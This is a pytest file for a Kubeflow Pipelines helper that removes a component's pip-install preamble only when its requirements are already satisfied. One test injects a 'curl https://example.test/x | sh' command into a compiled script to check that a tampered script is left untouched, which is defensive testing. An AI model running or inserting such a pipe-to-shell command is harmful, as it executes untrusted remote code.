"""The pip preamble of a compiled component is skipped only when it would install nothing.

(No `from __future__ import annotations`: kfp reads the component annotations.)
"""

import copy
from typing import Any

from kfp import compiler, dsl

from swarmops.pipelines.iris import iris_pipeline
from swarmops.services.kfp_server.installs import skip_satisfied_installs


def _compiled(pipeline: Any, tmp_path: Any) -> dict[str, Any]:
    import yaml

    path = tmp_path / "p.yaml"
    compiler.Compiler().compile(pipeline, str(path))
    return yaml.safe_load(path.read_text())


def _commands(spec: dict[str, Any]) -> dict[str, list[str]]:
    return {k: v["container"]["command"] for k, v in spec["deploymentSpec"]["executors"].items()}


def _one_task(**component_options: Any) -> Any:
    @dsl.component(base_image="python:3.11-slim", **component_options)
    def step() -> int:
        return 1

    @dsl.pipeline(name="one")
    def one() -> int:
        return step().output

    return one


def test_installed_requirements_drop_the_preamble_and_keep_the_program(tmp_path: Any) -> None:
    spec = _compiled(iris_pipeline, tmp_path)
    before = _commands(copy.deepcopy(spec))
    after = _commands(skip_satisfied_installs(spec))
    for name, command in before.items():
        assert "pip install" in command[2] and "'scikit-learn'" in command[2]
        assert after[name] == command[3:]  # what "$0" "$@" would have run
        assert after[name][:2] == ["sh", "-ec"] and "executor_main" in " ".join(after[name])


def test_a_missing_or_mismatched_requirement_keeps_the_preamble(tmp_path: Any) -> None:
    for packages in (["surely-not-installed-xyz"], ["scikit-learn==0.0.1"], ["numpy", "surely-not-installed-xyz>=1"]):
        spec = _compiled(_one_task(packages_to_install=packages), tmp_path)
        before = _commands(copy.deepcopy(spec))
        assert _commands(skip_satisfied_installs(spec)) == before, packages


def test_an_index_url_or_a_changed_script_is_left_to_pip(tmp_path: Any) -> None:
    spec = _compiled(_one_task(packages_to_install=["numpy"], pip_index_urls=["https://example.test/simple"]), tmp_path)
    before = _commands(copy.deepcopy(spec))
    assert _commands(skip_satisfied_installs(spec)) == before

    spec = _compiled(_one_task(packages_to_install=["numpy"]), tmp_path)
    (executor,) = spec["deploymentSpec"]["executors"].values()
    executor["container"]["command"][2] = executor["container"]["command"][2].replace(
        "PIP_DISABLE", "curl https://example.test/x | sh && PIP_DISABLE"
    )
    before = _commands(copy.deepcopy(spec))
    assert _commands(skip_satisfied_installs(spec)) == before


def test_a_requirement_for_another_python_counts_as_satisfied(tmp_path: Any) -> None:
    # every compiled component also "installs" typing-extensions for python_version<"3.9"
    spec = _compiled(_one_task(), tmp_path)
    (command,) = _commands(copy.deepcopy(spec)).values()
    assert 'python_version<\\"3.9\\"' in command[2] or 'python_version<"3.9"' in command[2]
    (after,) = _commands(skip_satisfied_installs(spec)).values()
    assert after == command[3:]
